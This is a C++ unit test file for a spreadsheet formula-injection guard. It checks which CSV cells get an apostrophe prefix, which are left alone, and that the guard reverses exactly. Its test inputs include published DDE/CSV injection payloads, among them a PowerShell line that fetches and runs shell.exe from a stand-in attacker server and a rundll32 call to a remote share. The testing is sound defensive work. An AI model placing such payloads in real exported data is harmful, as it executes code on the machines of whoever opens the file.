// SPDX-License-Identifier: MIT
// The formula guard against the published payloads, what it leaves alone, and that it is undone exactly.
#include "core/shard/formula_guard.h"

#include <gtest/gtest.h>

#include <random>
#include <string>
#include <string_view>
#include <vector>

namespace npscope {
namespace {

TEST(FormulaGuard, PayloadsOfCsvInjectionAreGuarded) {
  for (const std::string_view cell : {"=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
                                      "@SUM(1+9)*cmd|' /C calc'!A0",
                                      "=10+20+cmd|' /C calc'!A0",
                                      "=cmd|' /C notepad'!'A1'",
                                      "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
                                      "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
                                      "=1+1",
                                      "+SUM(A1)",
                                      "-2+3",
                                      "@SUM(A1)",
                                      "\t=1",
                                      "\r=1",
                                      "\n=1",
                                      "＝1+1",
                                      "=\"a\",b",
                                      "＋1",
                                      "－1",
                                      "＠SUM(1)",
                                      "=HYPERLINK(\"https://example.org\")",
                                      "-2+3+cmd|' /C calc'!D2"}) {
    EXPECT_TRUE(needs_guard(cell)) << cell;
    EXPECT_EQ(guarded(cell), "'" + std::string(cell));
    EXPECT_EQ(unguarded(guarded(cell)), cell);
  }
  EXPECT_TRUE(needs_guard(std::string_view("\0=1", 3)));
}

TEST(FormulaGuard, BlanksInFrontHideNothing) {
  for (const std::string blank :
       {" ", "  ", "\u00A0", "\u3000", "\u200B", "\uFEFF", "\u2003 \u2009", "\v", "\f", "\u202F", "\u0085"}) {
    for (const std::string sign : {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}) {
      EXPECT_TRUE(needs_guard(blank + sign + "1")) << blank << sign;
      EXPECT_TRUE(needs_guard(blank + sign)) << blank << sign;
    }
    EXPECT_FALSE(needs_guard(blank + "a=1"));
    EXPECT_FALSE(needs_guard(blank + "9"));
    EXPECT_FALSE(needs_guard(blank));
  }
}

TEST(FormulaGuard, PlainNumbersAreLeftAlone) {
  for (const std::string_view number : {"-5", "+3.2", "-0.5", "+7", "-1,5", "-100", "-.5", "+1e5", "-1.5E-3", "9", "0"}) {
    EXPECT_FALSE(needs_guard(number)) << number;
    EXPECT_EQ(guarded(number), number);
  }
  for (const std::string_view formula :
       {"+-5",    "-+5",    "--5",   "-5-5", "+49 30 1234", "-",   "+",   "-inf",   "-nan", "-5%",
        "-1.2.3", "-1,2,3", "-0x10", "- 5",  " -5",         "-5 ", "-A1", "-1.5,2", "-,",   "+."}) {
    EXPECT_TRUE(needs_guard(formula)) << formula;
  }
  EXPECT_TRUE(needs_guard("-" + std::string(100, '1')));
}

TEST(FormulaGuard, OtherTextIsLeftAlone) {
  for (const std::string_view cell :
       {"", "a", "great service", "a=b", "ann@example.org", "9 - likely", "(=1)", "\"=1\"", "—", "北京", "\xFF="}) {
    EXPECT_EQ(guarded(cell), cell);
    EXPECT_EQ(unguarded(cell), cell);
  }
}

TEST(FormulaGuard, AnApostropheOfTheCellItselfSurvives) {
  EXPECT_EQ(guarded("'tis"), "''tis");
  EXPECT_EQ(guarded("'=1"), "''=1");
  EXPECT_EQ(unguarded("''=1"), "'=1");
  EXPECT_EQ(unguarded("'"), "");
}

TEST(FormulaGuard, UndoneExactlyForEveryCell) {
  const std::vector<std::string_view> pieces = {
      "'",      "=", "+", "-", "@", "\t",   "\r",       "\n", std::string_view("\0", 1), "＝", " ", "\u00A0",
      "\u3000", "5", ".", ",", "a", "\xFF", "\xEF\xBC", "e"};
  std::mt19937 random(99);
  for (int i = 0; i < 100000; ++i) {
    std::string cell;
    for (uint32_t left = random() % 6; left > 0; --left) cell += pieces[random() % pieces.size()];
    const std::string written = guarded(cell);
    ASSERT_EQ(unguarded(written), cell);
    ASSERT_TRUE(written == cell || written == "'" + cell);
    // Nothing that is written starts a calculation.
    ASSERT_TRUE(written.starts_with('\'') || !needs_guard(written));
  }
}

}  // namespace
}  // namespace npscope
